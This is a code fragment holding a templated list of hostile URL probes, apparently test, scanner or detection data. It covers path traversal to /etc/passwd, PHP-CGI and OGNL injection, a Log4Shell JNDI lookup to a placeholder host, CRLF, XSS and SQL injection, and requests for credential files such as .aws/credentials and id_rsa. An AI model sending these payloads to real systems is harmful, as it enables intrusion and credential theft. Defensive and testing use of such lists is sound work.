	"/console/images/%252e%252e%252fconsole.portal", "/‹w›.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "/api/v1/‹w›/..%2f..%2f..%2fetc%2fpasswd", "/%c0%ae%c0%ae/%c0%ae%c0%ae/WEB-INF/web.xml", "/hsqldb%0a", "/‹w›/WEB-INF/web.xml", "/.aws/credentials", "/.svn/entries", "/backup.sql", "/id_rsa", "/server-status", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
	"/‹w›?redirect:${‹n›*‹n›}", "/‹w›.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", "/‹w›;/..;/..;/actuator", "/plus/download.php?open=1&arrs1[]=99", "/druid/index.html", "/?x=${jndi:ldap://‹evil›/a}", "/%0d%0aSet-Cookie:‹x›=1", "/%3Cscript%3Ealert(1)%3C/script%3E", "/‹w›/'%20or%201=1--",
)
